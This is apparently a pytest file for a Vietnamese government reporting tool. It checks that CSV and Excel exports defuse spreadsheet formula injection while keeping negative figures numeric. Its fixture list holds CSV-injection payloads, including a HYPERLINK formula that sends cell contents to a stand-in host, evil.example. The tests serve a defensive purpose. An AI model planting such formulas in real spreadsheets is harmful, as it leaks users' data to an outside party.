"""Exports never carry a formula: agency and procedure names come from other systems, and a name
such as ``=HYPERLINK(...)`` must open as text in Excel (OWASP "CSV Injection"), in the CSV files
and in the workbook alike, while negative figures stay numbers."""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd

from lienthong.report.export import CSV_NAMES, neutralised, write_csv, write_xlsx
from lienthong.report.figures import Report

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FIGURES = [3, -2, 0, 7, -1, 5]  # -2 and -1: negative figures, which must stay numbers


def _report() -> Report:
    n = len(HOSTILE)
    agency = pd.DataFrame(
        {
            "agency_code": [f"H36.{i}" for i in range(n - 1)] + ["-7"],
            "agency_name": HOSTILE,
            "dossiers_processed": FIGURES,
            "vnd_saved_measured": [float(f) * 16_000 for f in FIGURES],
        }
    )
    procedure = pd.DataFrame(
        {
            "procedure_code": [f"1.00{i}" for i in range(n)],
            "procedure_name": list(reversed(HOSTILE)),
            "dossiers_processed": FIGURES,
        }
    )
    month = pd.DataFrame({"month": ["2022-03"], "dossiers_processed": [-4]})
    headline = {
        "date_from": "2022-03-01",
        "date_to": "2022-03-31",
        "dossiers_processed": -4,
        "on_time_pct": -0.5,
    }
    return Report(headline, month, agency, procedure)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_neutralised_prefixes_only_text_that_starts_like_a_formula():
    assert [neutralised(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert neutralised("Phòng Tư pháp") == "Phòng Tư pháp" and neutralised("a=b") == "a=b"
    assert neutralised(-2) == -2 and neutralised(-1.5) == -1.5 and neutralised(None) is None


def test_xlsx_has_no_formula_and_keeps_numbers(tmp_path):
    path = write_xlsx(_report(), tmp_path / "report.xlsx")
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {"'" + v for v in HOSTILE} <= texts and not set(HOSTILE) & texts
    assert "'-7" in texts  # a code that looks like a negative number is still text
    agency = book["Theo đơn vị"]
    figures = [agency.cell(row, 3) for row in range(2, len(FIGURES) + 2)]
    assert [c.value for c in figures] == FIGURES and {c.data_type for c in figures} == {"n"}
    assert agency.cell(3, 4).value == -32_000 and agency.cell(3, 4).data_type == "n"
    summary = {r[0]: r[1] for r in book["Tổng hợp"].iter_rows(min_row=2, values_only=True)}
    assert -4 in summary.values() and -0.5 in summary.values()


def test_csv_has_no_cell_that_starts_like_a_formula(tmp_path):
    paths = write_csv(_report(), tmp_path / "csv")
    seen = []
    for path in paths:
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    seen.append(cell)
                    if cell.startswith(TRIGGERS):  # only a number may start with - or +
                        assert _is_number(cell), (path.name, cell)
    assert {"'" + v for v in HOSTILE} <= set(seen)
    with (tmp_path / "csv" / CSV_NAMES["agency"]).open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    assert [r[1] for r in rows] == ["'" + v for v in HOSTILE]  # one row each, CR and all
    assert [int(r[2]) for r in rows] == FIGURES  # negative figures written as numbers
    assert rows[-1][0] == "'-7"
